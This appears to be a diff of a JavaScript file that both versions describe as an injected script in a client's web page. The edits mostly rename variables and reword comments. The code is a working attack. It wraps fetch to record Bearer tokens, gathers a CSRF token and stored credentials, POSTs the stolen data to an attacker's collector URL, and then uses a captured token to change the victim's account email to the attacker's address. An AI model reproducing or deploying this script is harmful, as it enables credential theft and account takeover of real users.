@@ -1,19 +1,19 @@
-/** A script of somebody else's in the client's page: it listens, and strikes when it is told to. */
+/** An injected script in the client's page: it records tokens that are sent, and attacks when called. */
 
 (() => {
   const sent = globalThis.fetch;
   const overheard = new Set();
 
-  // Whatever the page keeps its token in, it has to send it.
+  // Wherever the page keeps its token, it has to send it.
   globalThis.fetch = (...request) => {
-    const said = new Request(...request).headers.get("Authorization");
-    if (said) {
-      overheard.add(said.replace("Bearer ", ""));
+    const authorization = new Request(...request).headers.get("Authorization");
+    if (authorization) {
+      overheard.add(authorization.replace("Bearer ", ""));
     }
     return sent(...request);
   };
 
-  /** Everything that a script can read of what the page keeps. */
+  /** Return everything that a script can read of the page's credentials. */
   async function loot(api) {
     const proof = await sent(`${api}/api/csrf`, { credentials: "include" });
     return {
@@ -26,16 +26,16 @@
 
   globalThis.injected = {
     /**
-     * Carry off what can be read; then change the email address, as the user.
+     * Send what can be read to the collector; then change the email address, as the user.
      *
-     * @param {string} api Origin of the API. @param {string} collector Where the loot goes.
-     * @param {string} email The attacker's.
+     * @param {string} api Origin of the API. @param {string} collector URL that receives the stolen data.
+     * @param {string} email The attacker's address.
      */
     async strike(api, collector, email) {
-      const found = await loot(api);
-      await sent(collector, { method: "POST", mode: "no-cors", body: JSON.stringify(found) });
-      const tokens = [...found.overheard, ...found.storage.map((text) => JSON.parse(text).token)];
-      const headers = { "Content-Type": "application/json", "X-CSRF-Token": found.proof };
+      const stolen = await loot(api);
+      await sent(collector, { method: "POST", mode: "no-cors", body: JSON.stringify(stolen) });
+      const tokens = [...stolen.overheard, ...stolen.storage.map((text) => JSON.parse(text).token)];
+      const headers = { "Content-Type": "application/json", "X-CSRF-Token": stolen.proof };
       if (tokens.length > 0) {
         headers.Authorization = `Bearer ${tokens[0]}`;
       }
